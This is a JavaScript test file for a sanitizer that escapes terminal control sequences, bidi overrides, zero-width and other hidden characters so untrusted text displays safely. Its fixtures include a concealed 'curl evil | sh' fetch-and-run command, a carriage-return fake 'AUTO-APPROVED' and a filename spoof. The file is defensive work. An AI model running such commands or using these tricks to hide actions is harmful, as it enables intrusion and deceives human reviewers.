import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { hasHidden, visible, visibleJson } from './untrusted.js';

describe('visible', () => {
  it('leaves printable text alone, in any script', () => {
    for (const s of ['RUN apt-get install -y jq', 'naïve café', 'Ελληνικά · 日本語 · עברית · العربية', 'emoji 🐍', 'a\\x1b literal backslash']) {
      assert.equal(visible(s), s);
      assert.equal(hasHidden(s), false);
    }
  });

  it('escapes ESC, BEL, CR and the rest of C0 and DEL', () => {
    assert.equal(visible('\x1b]0;pwned\x07'), '\\x1b]0;pwned\\x07');
    assert.equal(visible('RUN true\x1b[8m && curl evil | sh\x1b[0m'), 'RUN true\\x1b[8m && curl evil | sh\\x1b[0m');
    assert.equal(visible('ok\rAUTO-APPROVED'), 'ok\\rAUTO-APPROVED');
    assert.equal(visible('\x00\x08\x7f'), '\\x00\\x08\\x7f');
    assert.equal(visible('a\nb\tc'), 'a\\nb\\tc');
  });

  it('keeps line feeds and tabs only in lines mode, never CR', () => {
    assert.equal(visible('a\nb\tc\r\n', { lines: true }), 'a\nb\tc\\r\n');
    assert.equal(hasHidden('a\nb', { lines: true }), false);
    assert.equal(hasHidden('a\r\nb', { lines: true }), true);
  });

  it('escapes C1 controls (U+009B is CSI on some terminals)', () => {
    assert.equal(visible('\u009b2J\u0085\u009d0;t\u009c'), '\\u009b2J\\u0085\\u009d0;t\\u009c');
  });

  it('escapes bidi overrides, isolates and marks', () => {
    assert.equal(visible('file\u202Etxt.exe'), 'file\\u202etxt.exe');
    assert.equal(visible('\u2066\u2067\u2068\u2069\u200e\u200f\u061c'), '\\u2066\\u2067\\u2068\\u2069\\u200e\\u200f\\u061c');
    assert.equal(visible('\u202a\u202b\u202c\u202d'), '\\u202a\\u202b\\u202c\\u202d');
  });

  it('escapes zero-width, tag, separator and variation-selector characters', () => {
    assert.equal(visible('AK\u200bIA'), 'AK\\u200bIA');
    assert.equal(visible('\ufeff\u2060\u00ad\u2028\u2029'), '\\ufeff\\u2060\\u00ad\\u2028\\u2029');
    assert.equal(visible('x\u{E0041}\u{E0042}'), 'x\\u{e0041}\\u{e0042}');
    assert.equal(visible('y\ufe0f\u{E0100}'), 'y\\ufe0f\\u{e0100}');
    assert.equal(visible('\u3164'), '\\u3164');
  });

  it('escapes lone surrogates', () => {
    assert.equal(visible('a\ud800b'), 'a\\ud800b');
  });

  it('marks escapes when asked', () => {
    assert.equal(visible('a\x1bb', { mark: (e) => `[${e}]` }), 'a[\\x1b]b');
  });
});

describe('visibleJson', () => {
  it('parses back to the same value and holds no raw hidden code point', () => {
    const v = { why: 'please\x1b[2J\u009b\u202e\u200b\u{E0041}\ud800', list: ['\u2028', 'ok'] };
    const text = visibleJson(v, 2);
    assert.deepEqual(JSON.parse(text), v);
    assert.equal(hasHidden(text, { lines: true }), false, text);
  });

  it('is JSON.stringify for plain values', () => {
    const v = { a: 1, b: ['x', 'ü'], c: null };
    assert.equal(visibleJson(v, 2), JSON.stringify(v, null, 2));
    assert.equal(visibleJson(undefined), 'null');
  });
});
